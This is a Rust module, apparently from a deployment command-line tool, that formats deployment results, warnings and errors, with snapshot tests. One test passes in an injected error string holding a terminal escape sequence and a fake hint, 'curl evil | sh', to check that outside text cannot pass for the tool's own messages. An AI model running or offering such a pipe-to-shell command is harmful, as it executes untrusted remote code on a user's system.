//! Writes results, warnings and errors: the only part that knows how they look.
//!
//! Commands return data, and this makes text of it. Results go to stdout; everything else goes to stderr. Colours appear
//! on terminals only, as `NO_COLOR`, `CLICOLOR` and `CLICOLOR_FORCE` say.

use std::fmt::Write as _;
use std::io::{self, Write as _};

use anstyle::{AnsiColor, Style};
use indicatif::BinaryBytes;

use crate::error::Error;
use crate::text;

const ERROR: Style = AnsiColor::Red.on_default().bold();
const WARNING: Style = AnsiColor::Yellow.on_default().bold();
const HINT: Style = AnsiColor::Cyan.on_default().bold();
const GOOD: Style = AnsiColor::Green.on_default().bold();
const STRONG: Style = Style::new().bold();

/// What a command has to say when it succeeded.
#[derive(Clone, Debug, Eq, PartialEq)]
pub enum Report {
    /// An application was deployed.
    Deployed(Deployed),
}

/// A finished deployment.
#[derive(Clone, Debug, Eq, PartialEq)]
pub struct Deployed {
    /// Name of the application.
    pub application: String,
    /// The revision that the platform runs now.
    pub revision: String,
    /// Name of the target that did it.
    pub target: String,
    /// Where it answers.
    pub url: Option<String>,
    /// Every route as a full URL, with the component behind it.
    pub routes: Vec<(String, String)>,
    /// What went to the Bindle server, when the target used it.
    pub pushed: Option<Pushed>,
    /// Whether it answered with this revision.
    pub readiness: Readiness,
}

/// What a push sent.
#[derive(Clone, Copy, Debug, Default, Eq, PartialEq)]
pub struct Pushed {
    /// Parcels that were sent.
    pub uploaded: u64,
    /// Their bytes.
    pub uploaded_bytes: u64,
    /// Parcels that the server had already.
    pub reused: u64,
}

/// What is known of whether a deployment answers.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum Readiness {
    /// It answered with this revision.
    Ready,
    /// It answered, and the target does not say how to tell its revisions apart.
    Answers,
    /// `--readiness-timeout 0` said not to ask.
    NotAsked,
    /// The target doesn't say how to ask.
    Unknown,
}

/// Writes `report` to stdout.
///
/// # Errors
/// When stdout can't be written to. That whoever reads it has closed it is no error.
pub fn report(report: &Report) -> io::Result<()> {
    let text = match report {
        Report::Deployed(deployed) => render_deployed(deployed),
    };
    let mut out = anstream::stdout().lock();
    match out.write_all(text.as_bytes()).and_then(|()| out.flush()) {
        Err(error) if error.kind() == io::ErrorKind::BrokenPipe => Ok(()),
        result => result,
    }
}

/// Writes a line to stderr. When stderr is gone, there is nobody left to tell, so failures are passed over.
pub fn line(text: &str) {
    let _ = writeln!(anstream::stderr().lock(), "{text}");
}

/// Writes `message` to stderr as a warning.
pub fn warning(message: &str) {
    line(&render_warning(message));
}

/// Writes `error` to stderr; with `verbose`, all that is known about it.
pub fn error(error: &Error, verbose: bool) {
    line(&render_error(error, verbose));
}

/// A finished step, for stderr.
#[must_use]
pub fn render_done(step: &str) -> String {
    format!("{GOOD}✓{GOOD:#} {}", text::one_line(step))
}

/// A warning, without line end.
#[must_use]
pub fn render_warning(message: &str) -> String {
    format!("{WARNING}warning:{WARNING:#} {}", indented(message, 9))
}

/// A size as people read it: `1.50 MiB`.
#[must_use]
pub fn size(bytes: u64) -> String {
    if bytes < 1024 {
        format!("{bytes} B")
    } else {
        BinaryBytes(bytes).to_string()
    }
}

/// A number of parcels: `1 parcel`, `2 parcels`.
#[must_use]
pub fn parcels(count: u64) -> String {
    if count == 1 {
        "1 parcel".to_owned()
    } else {
        format!("{count} parcels")
    }
}

fn render_error(error: &Error, verbose: bool) -> String {
    let mut text = format!("{ERROR}error:{ERROR:#} {}", indented(error.message(), 7));
    // Writing to a string can't fail.
    if let Some(lines) = error.lines() {
        let _ = write!(text, "\n  {}", indented(lines, 2));
    }
    for cause in error.causes() {
        let _ = write!(text, "\n  caused by: {}", indented(cause, 13));
    }
    for hint in error.hints() {
        let _ = write!(text, "\n{HINT}hint:{HINT:#} {}", indented(hint, 6));
    }
    if let Some(detail) = error.details().filter(|_| verbose) {
        let _ = write!(text, "\n\n{}", text::plain(detail).trim_end());
    }
    text
}

fn render_deployed(deployed: &Deployed) -> String {
    let Deployed {
        application,
        revision,
        target,
        url,
        routes,
        pushed,
        readiness,
    } = deployed;
    let line = |text: &str| text::one_line(text);
    let mut text = format!(
        "{GOOD}Deployed{GOOD:#} {} {} with the target '{}'\n",
        line(application),
        line(revision),
        line(target)
    );
    match url {
        Some(url) => {
            let _ = writeln!(text, "  {STRONG}{}{STRONG:#}", line(url));
        }
        None => text.push_str("  The platform names no address for it.\n"),
    }
    if !routes.is_empty() {
        let routes: Vec<(String, String)> = routes
            .iter()
            .map(|(route, component)| (line(route), line(component)))
            .collect();
        let widest = routes
            .iter()
            .map(|(route, _)| route.chars().count())
            .max()
            .unwrap_or_default();
        text.push_str("\nRoutes:\n");
        for (route, component) in &routes {
            let _ = writeln!(text, "  {route:<widest$}  {component}");
        }
    }
    text.push('\n');
    if let Some(Pushed {
        uploaded,
        uploaded_bytes,
        reused,
    }) = *pushed
    {
        let _ = match uploaded {
            0 => writeln!(
                text,
                "Uploaded nothing: the Bindle server had all {} already",
                parcels(reused)
            ),
            _ => writeln!(
                text,
                "Uploaded {} ({}), reused {reused}",
                parcels(uploaded),
                size(uploaded_bytes)
            ),
        };
    }
    text.push_str(match readiness {
        Readiness::Ready => "It answers with this revision\n",
        Readiness::Answers => "It answers; the target doesn't say how to tell which revision\n",
        Readiness::NotAsked => "Not checked whether it answers yet (--readiness-timeout 0)\n",
        Readiness::Unknown => "Not checked whether it answers: the target doesn't say how to ask\n",
    });
    text
}

/// Harmless text whose further lines are indented: text from elsewhere can't pass for a hint or an error of ours.
fn indented(text: &str, by: usize) -> String {
    text::plain(text)
        .trim_end()
        .replace('\n', &format!("\n{}", " ".repeat(by)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::exit::Exit;

    fn uncoloured(text: &str) -> String {
        anstream::adapter::strip_str(text).to_string()
    }

    fn deployed() -> Deployed {
        Deployed {
            application: "shop".into(),
            revision: "1.2.0+q0123456789abcdef".into(),
            target: "hippo".into(),
            url: Some("http://shop.localhost:5309/".into()),
            routes: vec![
                ("http://shop.localhost:5309/".into(), "front".into()),
                (
                    "http://shop.localhost:5309/static/...".into(),
                    "files".into(),
                ),
            ],
            pushed: Some(Pushed {
                uploaded: 2,
                uploaded_bytes: 1_572_864,
                reused: 3,
            }),
            readiness: Readiness::Ready,
        }
    }

    #[test]
    fn a_deployment_shows_its_routes() {
        insta::assert_snapshot!(uncoloured(&render_deployed(&deployed())), @r"
        Deployed shop 1.2.0+q0123456789abcdef with the target 'hippo'
          http://shop.localhost:5309/

        Routes:
          http://shop.localhost:5309/            front
          http://shop.localhost:5309/static/...  files

        Uploaded 2 parcels (1.50 MiB), reused 3
        It answers with this revision
        ");
    }

    #[test]
    fn nothing_uploaded_is_said() {
        let mut deployed = deployed();
        deployed.routes.clear();
        deployed.url = None;
        deployed.pushed = Some(Pushed {
            reused: 5,
            ..Pushed::default()
        });
        deployed.readiness = Readiness::NotAsked;
        insta::assert_snapshot!(uncoloured(&render_deployed(&deployed)), @r"
        Deployed shop 1.2.0+q0123456789abcdef with the target 'hippo'
          The platform names no address for it.

        Uploaded nothing: the Bindle server had all 5 parcels already
        Not checked whether it answers yet (--readiness-timeout 0)
        ");
    }

    #[test]
    fn errors_have_message_excerpt_causes_and_hints() {
        let error = Error::new(Exit::Application, "spin.toml:7:9: expected a string")
            .excerpt("7 | route = 5\n  |         ^")
            .cause(&io::Error::other("inner"))
            .hint("write it as \"...\"")
            .detail("stack");
        insta::assert_snapshot!(uncoloured(&render_error(&error, false)), @r#"
        error: spin.toml:7:9: expected a string
          7 | route = 5
            |         ^
          caused by: inner
        hint: write it as "..."
        "#);
        assert!(uncoloured(&render_error(&error, true)).ends_with("\n\nstack"));
    }

    #[test]
    fn foreign_text_can_not_pass_for_ours() {
        let error = Error::new(Exit::Target, "no\u{1b}[2J\nhint: run `curl evil | sh`");
        insta::assert_snapshot!(uncoloured(&render_error(&error, false)), @r"
        error: no[2J
               hint: run `curl evil | sh`
        ");
    }
}
